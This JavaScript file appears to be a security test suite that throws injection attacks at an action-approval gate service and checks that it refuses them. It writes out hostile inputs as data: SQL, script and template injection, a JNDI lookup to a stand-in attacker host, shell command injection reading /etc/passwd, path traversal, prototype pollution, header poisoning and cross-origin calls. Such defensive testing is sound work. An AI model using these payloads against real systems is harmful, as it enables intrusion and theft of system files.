/** @typedef {import('../index.js').Attack} Attack @typedef {import('../index.js').Refusal} Refusal */

const texts = [
  "'); drop table gate.action; --",
  '<!channel> <https://attack.invalid|Approve> *bold* <@U0000>',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '${jndi:ldap://attack.invalid/a} {{7*7}} <%= 7*7 %> #{7*7}',
  '$(touch /tmp/attack) `id` ; cat /etc/passwd',
  '\\u0000 %00 \\x1b[2J',
  '┃ Approved by the gate\n⟨U+202E⟩',
]

/** @type {Attack[]} */
export const injection = [
  {
    id: 'injection-text',
    topic: 'injection',
    title: 'Write SQL, markup, templates, commands and the gate’s own signs into a message',
    requirements: ['AISVS-9.2.2', 'GATE-text'],
    needs: ['member'],
    async run(t) {
      for (const text of texts) {
        const message = t.message(text)
        const answer = await t.gate.propose({ member: t.member, message, rationale: text })
        t.holds(answer.outcome !== 'failed', `a fault by ${text}`)
        if (answer.action) t.holds(answer.action.message === message, `the message was changed: ${text}`)
        const { action } = answer.action ? await t.gate.read(answer.action.id) : {}
        if (action) t.holds(action.message === message, `the message is read as another: ${text}`)
      }
    },
  },
  {
    id: 'injection-prototype',
    topic: 'injection',
    title: 'Send __proto__ and constructor as fields, and see whether later requests change',
    requirements: ['AISVS-10.4.3', 'AISVS-10.4.4'],
    needs: ['member'],
    async run(t) {
      const text = t.gate.proposalText({ member: t.member, message: t.message() })
      const pollutions = [
        '"__proto__":{"status":"executed","tier":"write"}',
        '"constructor":{"prototype":{"tier":"write"}}',
      ]
      for (const pollution of pollutions) {
        for (const at of ['"kind"', '"message"']) {
          const answer = await t.gate.proposeText(text.replace(at, `${pollution},${at}`))
          t.refused(answer, ['invalid'], `${pollution} beside ${at} was taken`)
        }
      }
      const action = await t.propose()
      t.holds(action.status === 'proposed' && action.strength === undefined, 'a later proposal is another')
    },
  },
  {
    id: 'injection-paths',
    topic: 'injection',
    title: 'Leave the address of an operation by dots, slashes and escapes',
    requirements: ['AISVS-10.2.5', 'GATE-outside'],
    needs: [],
    transports: ['rest'],
    async run(t) {
      const paths = [
        '/api/v1/actions/../../console',
        '/api/v1/actions/..%2f..%2fconsole',
        '/api/v1/actions/%2e%2e/%2e%2e/etc/passwd',
        '/api/v1//actions/1',
        '//etc/passwd',
        '/api/v1/actions/1/confirm/..;/',
        '/api/v1/actions/%ff',
        '/api/v1/actions/1%00',
        '/api/v1/conversations/..%2f..%2fetc/files',
        '/api/v1/conversations/%2e%2e/files/read?path=passwd',
      ]
      for (const path of paths) {
        const answer = await t.gate.raw({ method: 'GET', path })
        t.refused(answer, ['not_found', 'invalid', 'too_large'], `${path} leads somewhere`)
      }
    },
  },
  {
    id: 'injection-headers',
    topic: 'injection',
    title: 'Choose what the gate believes and repeats, by Host, forwarded and request headers',
    requirements: ['AISVS-10.3.3', 'GATE-text'],
    needs: ['member'],
    async run(t) {
      const poison = 'attack-host.invalid'
      const headers = {
        host: poison,
        'x-forwarded-host': poison,
        'x-forwarded-proto': 'javascript',
        forwarded: `host=${poison}`,
        'x-request-id': 'attack-request-id',
        'x-http-method-override': 'DELETE',
      }
      const answer = await t.gate.propose({ member: t.member, message: t.message() }, { headers })
      t.holds(answer.outcome !== 'failed', 'a fault')
      const said = `${answer.text} ${JSON.stringify(answer.headers)}`
      t.holds(!said.includes(poison), 'the answer repeats the host that the request claimed')
      t.holds(
        !said.includes('attack-request-id'),
        'the caller chose the id under which the log has the request',
      )
    },
  },
  {
    id: 'injection-content-type',
    topic: 'injection',
    title: 'Send a proposal as a form or plain text, as a web page of another origin can',
    requirements: ['AISVS-10.3.3', 'AISVS-10.4.4'],
    needs: ['member'],
    async run(t) {
      const body = t.gate.proposalText({ member: t.member, message: t.message() })
      const types = [
        'text/plain',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'text/xml',
        '',
      ]
      for (const type of types) {
        const answer = await t.gate.proposeText(body, { 'content-type': type })
        t.refused(answer, ['invalid'], `a proposal of the type ${JSON.stringify(type)} was taken`)
      }
    },
  },
  {
    id: 'injection-method',
    topic: 'injection',
    title: 'Reach a write by another method, and a read as a write',
    requirements: ['AISVS-10.2.5'],
    needs: ['member'],
    transports: ['rest'],
    async run(t) {
      const action = await t.propose()
      const path = `/api/v1/actions/${action.id}`
      const tries = [
        { method: 'GET', path: `${path}/cancel` },
        { method: 'DELETE', path },
        { method: 'PATCH', path },
        { method: 'PUT', path },
        { method: 'GET', path: `${path}/confirm?actor=x` },
        { method: 'POST', path, headers: { 'x-http-method-override': 'DELETE' } },
        { method: 'TRACE', path },
      ]
      for (const request of tries) {
        const body = request.method === 'GET' || request.method === 'TRACE' ? undefined : '{}'
        const answer = await t.gate.raw({ ...request, body })
        t.refused(
          answer,
          ['invalid', 'not_found', 'forbidden'],
          `${request.method} ${request.path} was taken`,
        )
      }
      // Reading it so is harmless; that it is gone afterwards would not be.
      await t.gate.raw({ method: 'GET', path: `${path}?_method=DELETE` })
      await t.stillOpen(action)
    },
  },
  {
    id: 'injection-origin',
    topic: 'injection',
    title: 'Call tools from a web page of another origin',
    requirements: ['AISVS-10.3.3'],
    needs: ['member'],
    transports: ['mcp'],
    async run(t) {
      for (const origin of ['https://attack.invalid', 'null', 'http://localhost.attack.invalid', 'file://']) {
        const answer = await t.gate.readTier(t.member, { headers: { origin } })
        t.refused(answer, ['forbidden', 'invalid'], `the origin ${origin} was served`)
        t.holds(answer.headers['access-control-allow-origin'] === undefined, 'the origin may read the answer')
      }
    },
  },
]
